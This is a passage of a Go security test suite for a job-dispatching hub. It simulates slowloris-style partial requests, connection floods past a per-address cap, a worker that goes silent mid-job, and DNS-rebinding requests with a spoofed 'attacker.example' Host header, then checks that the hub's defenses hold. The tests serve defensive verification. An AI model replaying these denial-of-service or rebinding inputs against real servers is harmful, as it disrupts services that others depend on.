			t.Fatalf("hub%d exited", i)
		default:
		}
	}
	t.Logf("%d honest jobs succeeded alongside the attacks (%d submissions refused by the queue cap)", len(ids), len(refused))
}

// atkErr is the code and limit of an API error body.
func atkErr(t *testing.T, b []byte) (code, limit string) {
	t.Helper()
	var e struct {
		Error struct{ Code, Message, Limit string }
	}
	require.NoError(t, json.Unmarshal(b, &e), "%.300s", b)
	require.NotEmpty(t, e.Error.Message)
	return e.Error.Code, e.Error.Limit
}

// silentResult is what startSilentLink saw.
type silentResult struct {
	job string
	err error // why the link ended before a job came
}

// startSilentLink links w-mute, waits for its first job, reports it
// started and then neither reads nor writes again (TCP stays open: the
// hub's pings go unanswered). The returned func waits for that setup.
func (f *secFleet) startSilentLink() func() silentResult {
	t := f.t
	conn, err := dialWorkerLink(f.urls[0], "w-mute", f.credential("w-mute"))
	require.NoError(t, err)
	t.Cleanup(func() { _ = conn.Close() })
	b, _ := json.Marshal(helloFrame("w-mute", "127.0.0.1", 1, messages.DriverSimulated))
	require.NoError(t, conn.WriteMessage(websocket.TextMessage, b))
	got := make(chan silentResult, 1)
	go func() {
		var r silentResult
		defer func() { got <- r }()
		_ = conn.SetReadDeadline(time.Now().Add(20 * time.Second))
		for {
			_, b, err := conn.ReadMessage()
			if err != nil {
				r.err = err
				return
			}
			fr, err := messages.DecodeFrame(b)
			if err != nil || fr.Type != messages.TypeAssignJob {
				continue
			}
			started, _ := json.Marshal(messages.Frame{Type: messages.TypeJobStarted, JobID: fr.JobID, Attempt: fr.Attempt, Lane: "sim://w-mute/lane/0"})
			_ = conn.WriteMessage(websocket.TextMessage, started)
			r.job = fr.JobID
			return // and silence: no reads (so no pongs), no heartbeats
		}
	}()
	return sync.OnceValue(func() silentResult { return <-got })
}

// idleResult is what startIdleConns saw.
type idleResult struct {
	dialed, overCap, overCapClosed, idleClosed int
	servedDuring, servedAfter                  bool
	partialHeaderClosed, partialBodyClosed     bool
	partialBodyAnswer                          string
}

// startIdleConns opens, from 127.0.0.2, more silent connections than the
// per-address cap, and from 127.0.0.3 one request cut in its header and
// one cut in its body; it watches which the hub closes. The returned func
// waits for the verdict (about the body read deadline, 30 s).
func (f *secFleet) startIdleConns() func() idleResult {
	t := f.t
	url := f.urls[0]
	var r idleResult
	var held, over []net.Conn
	for i := 0; i < atkConnsPerIP+8; i++ {
		c := dialFrom(t, "127.0.0.2", url)
		t.Cleanup(func() { _ = c.Close() })
		r.dialed++
		if i < atkConnsPerIP {
			held = append(held, c)
		} else {
			over = append(over, c)
		}
	}
	r.overCap = len(over)
	// Past the cap: closed as soon as accepted, long before any timeout.
	for _, c := range over {
		if _, closed := readEOF(c, 3*time.Second); closed {
			r.overCapClosed++
		}
	}
	res, err := f.hc.Get(url + "/healthz")
	if err == nil {
		r.servedDuring = res.StatusCode == http.StatusOK
		res.Body.Close()
	}

	header := dialFrom(t, "127.0.0.3", url)
	t.Cleanup(func() { _ = header.Close() })
	_, err = io.WriteString(header, "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
	require.NoError(t, err)
	body := dialFrom(t, "127.0.0.3", url)
	t.Cleanup(func() { _ = body.Close() })
	_, err = io.WriteString(body, "POST /jobs HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer "+atkAPIToken+
		"\r\nContent-Type: application/json\r\nContent-Length: 200\r\n\r\n{\"mode\":\"noop\"")
	require.NoError(t, err)

	var wg sync.WaitGroup
	var mu sync.Mutex
	for _, c := range held {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if _, closed := readEOF(c, 25*time.Second); closed { // ReadHeaderTimeout: 10 s
				mu.Lock()
				r.idleClosed++
				mu.Unlock()
			}
		}()
	}
	wg.Add(2)
	go func() { defer wg.Done(); _, r.partialHeaderClosed = readEOF(header, 25*time.Second) }()
	go func() { // the body read deadline: 30 s
		defer wg.Done()
		r.partialBodyAnswer, r.partialBodyClosed = readEOF(body, 50*time.Second)
	}()
	done := make(chan struct{})
	go func() {
		wg.Wait()
		c := dialFrom(t, "127.0.0.2", url)
		defer c.Close()
		_, _ = io.WriteString(c, "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
		answer, _ := readEOF(c, 5*time.Second)
		r.servedAfter = strings.HasPrefix(answer, "HTTP/1.1 200")
		close(done)
	}()
	return func() idleResult {
		<-done
		return r
	}
}

// TestSecurityAttacksOnAnOpenHub: what a hub without tokens shows. A page
// the operator visits re-points its own name at 127.0.0.1 (DNS rebinding):
// the hub answers its requests 421, while an honest worker's jobs run. And
// a hub asked to listen beyond loopback without tokens, or to run its
// cluster port beyond loopback without TLS, does not start: exit 2, one
// line naming the keys. On main both would have served.
func TestSecurityAttacksOnAnOpenHub(t *testing.T) {
	port := freePort(t)
	_, url := startHub(t, t.TempDir(), port)
	execLog := filepath.Join(t.TempDir(), "exec.log")
	startWorker(t, url, "w-open", 2, execLog)
	c := newClient(t, url)
	waitWorkers(t, c, 1)
	var ids []string
	for range 10 {
		j, err := c.Submit(context.Background(), client.SubmitRequest{Mode: "noop", Params: map[string]any{"lines": 2}}, "")
		require.NoError(t, err)
		ids = append(ids, j.ID)
	}

	t.Run("RebindingHostHeader", func(t *testing.T) {
		for _, r := range []struct{ method, path, body string }{
			{"GET", "/jobs", ""}, {"GET", "/jobs/" + ids[0], ""}, {"GET", "/ui/", ""}, {"GET", "/workers", ""},
			{"POST", "/jobs", `{"mode":"noop"}`}, {"POST", "/jobs/" + ids[1] + "/cancel", ""},
		} {
			req, err := http.NewRequest(r.method, url+r.path, strings.NewReader(r.body))
			require.NoError(t, err)
			req.Host = "rebound.attacker.example:" + strconv.Itoa(port)
			if r.method != "GET" {
				req.Header.Set("Content-Type", "application/json")
			}
			res, err := http.DefaultClient.Do(req)
			require.NoError(t, err)
			b, _ := io.ReadAll(res.Body)
			res.Body.Close()
			require.Equal(t, http.StatusMisdirectedRequest, res.StatusCode, "%s %s: %s", r.method, r.path, b)
			require.Contains(t, string(b), `"bad_host"`)
		}
		res, err := http.Get(url + "/jobs?limit=100")
		require.NoError(t, err)
		var list struct{ Jobs []persistence.Job }
		require.NoError(t, json.NewDecoder(res.Body).Decode(&list))
		res.Body.Close()
		require.Len(t, list.Jobs, len(ids), "the rebound POST made no job")
	})

	final := waitAllFinal(t, c, ids, time.Minute)
	runs := map[string]int{}
	for _, e := range readExecs(t, execLog) {
		runs[e.job]++
	}
	for _, id := range ids {
		require.Equal(t, client.StatusSucceeded, final[id].Status, "job %s (the rebound cancel did not reach it)", id)
		require.Equal(t, 1, runs[id], id)
		checkLog(t, url, id, 2)
	}

	t.Run("NonLoopbackListenWithoutTokens", func(t *testing.T) {
		for _, tc := range []struct {
			name, want string
			env        []string
			args       []string
		}{
			{"env", "auth.api_token", []string{"PAPRIKA_HUB_LISTEN=0.0.0.0:" + strconv.Itoa(freePort(t))}, nil},
			{"flag", "auth.api_token", nil, []string{"--listen", ":" + strconv.Itoa(freePort(t))}},
			{"cluster", "cluster.tls_ca", []string{"PAPRIKA_CLUSTER_HOST=192.0.2.7"}, nil},
		} {
			cmd := exec.Command(clusterBinary, append([]string{"hub"}, tc.args...)...)
			cmd.Env = append(os.Environ(), append([]string{"PAPRIKA_ASSETS_DIR=" + filepath.Join(t.TempDir(), "assets"),
				"PAPRIKA_HUB_LISTEN=127.0.0.1:" + strconv.Itoa(freePort(t))}, tc.env...)...)
			cmd.Dir = t.TempDir()
			out, err := cmd.CombinedOutput()
			var exit *exec.ExitError
			require.ErrorAs(t, err, &exit, "%s: %s", tc.name, out)
			require.Equal(t, 2, exit.ExitCode(), "%s: %s", tc.name, out)
			lines := strings.Split(strings.TrimSpace(string(out)), "\n")
			require.Len(t, lines, 1, "%s: one line: %s", tc.name, out)
			require.Contains(t, lines[0], tc.want, tc.name)
		}
		// The same listen with auth.insecure starts: the refusal is the
		// token check, nothing else.
		port := freePort(t)
		p := startBinary(t, clusterBinary, "insecure-hub", []string{"PAPRIKA_HUB_LISTEN=0.0.0.0:" + strconv.Itoa(port),
			"PAPRIKA_AUTH_INSECURE=true", "PAPRIKA_ASSETS_DIR=" + filepath.Join(t.TempDir(), "assets")}, "hub")
		waitReady(t, fmt.Sprintf("http://127.0.0.1:%d", port))
		require.Equal(t, 0, p.stop(30*time.Second))
	})
}
